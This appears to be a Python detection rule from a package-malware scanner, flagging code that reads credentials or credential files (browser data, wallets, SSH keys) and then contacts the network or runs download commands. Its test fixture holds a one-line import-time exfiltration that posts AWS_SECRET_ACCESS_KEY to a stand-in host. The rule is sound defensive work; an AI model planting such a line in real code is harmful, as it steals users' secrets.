"""Credentials meet the network."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import BY_ITSELF, HOLD, REVIEW, SUSPECT, Hit, Rule
from veln_hook.source import vocabulary as v
from veln_hook.source.variables import never_leaves

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View
    from veln_hook.source.facts import Placed


_THEFT = ("browser", "wallets", "chat tokens", "cookies")
"""What lies in such files is nobody's to read but their programs'."""
_NOBODYS = ("ssh keys", "gpg keys", "shell history", "accounts")
"""What no service is ever sent: it proves who one is by a signature, or tells of other things altogether."""


def _find(view: View) -> Iterator[Hit]:
    for secret, net, reach, near in view.pairs((v.CRED, v.CRED_FILE), (v.NET, v.DNS), near=False):
        itself = reach in BY_ITSELF
        flows = "cred" in net.taints
        theft = secret.kind == v.CRED_FILE and secret.detail.startswith(_THEFT)
        if itself and (near or flows):
            yield Hit(
                f"it reads {_named(secret)} and reaches {net.detail or 'the network'} by itself",
                (secret, net),
                HOLD,
            )
        elif theft and near:
            yield Hit(
                f"it reads {_named(secret)} and reaches {net.detail or 'the network'}", (secret, net), HOLD
            )
        elif flows and "key" in net.taints and _opens(secret):
            yield Hit(
                f"it sends {_named(secret)} to {net.detail or 'the network'}; honest code signs with that",
                (secret, net),
                HOLD,
            )
        elif near and secret.kind == v.CRED_FILE and flows:
            # A tool logs in with them somewhere; it doesn't put them into a request to a host of its own.
            posted = "sends" in net.flags or "." in net.detail
            grade = HOLD if posted and secret.detail in _NOBODYS else REVIEW
            yield Hit(f"{_named(secret)} go to {net.detail or 'the network'}", (secret, net), grade)
        elif itself:
            # A new setting in a package that asks for its prices; what a secret flows to is told above.
            yield Hit(
                f"what is imported together reads {_named(secret)} and reaches {net.detail or 'the network'}",
                (secret, net),
                SUSPECT,
            )
    for secret, command, _, near in view.pairs((v.CRED, v.CRED_FILE), (v.PROC,), by_itself=True):
        if near and ({"download", "powershell"} & set(command.flags) or "cred" in command.taints):
            yield Hit(f"it reads {_named(secret)} and runs {command.detail}", (secret, command), HOLD)


def _opens(secret: Placed) -> bool:
    """Tell whether a secret is one that honest code signs with, and that leaves no machine."""
    return never_leaves(secret.detail) if secret.kind == v.CRED else secret.detail == "cloud credentials"


def _named(secret: object) -> str:
    kind, detail = getattr(secret, "kind", ""), getattr(secret, "detail", "")
    return f"the variable {detail}" if kind == v.CRED else detail


RULE = Rule(
    name="credential-exfiltration",
    description=(
        "Credentials, by the names of variables or the places of files, are read by code that reaches the "
        "network."
    ),
    grade=HOLD,
    find=_find,
    fires={
        "acme/__init__.py": (
            "import os, requests\n"
            "requests.post('https://example.test', data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
        )
    },
    quiet={
        "acme/__init__.py": (
            "import os, requests\n\nKEY = os.environ.get('ACME_API_KEY')\n\ndef ask(path):\n"
            "    return requests.get('https://api.example.test/' + path, headers={'key': KEY})\n"
        )
    },
    rates="198 of 2,004 malicious clusters, none of 200 popular archives",
)
